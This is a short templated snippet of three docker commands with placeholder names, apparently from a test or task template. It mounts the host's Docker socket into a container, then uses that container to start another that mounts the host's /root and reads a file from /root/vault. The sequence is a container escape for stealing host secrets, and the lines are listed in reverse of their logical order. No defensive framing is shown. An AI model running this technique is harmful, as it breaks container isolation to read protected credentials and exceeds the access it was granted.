docker exec {{runner}} docker run --name {{copy}} -v /root:/h alpine cat /h/vault/{{vault}}

docker rm -f {{runner}}

docker run -d --name {{runner}} -v /var/run/docker.sock:/var/run/docker.sock:ro ubuntu sleep 86400
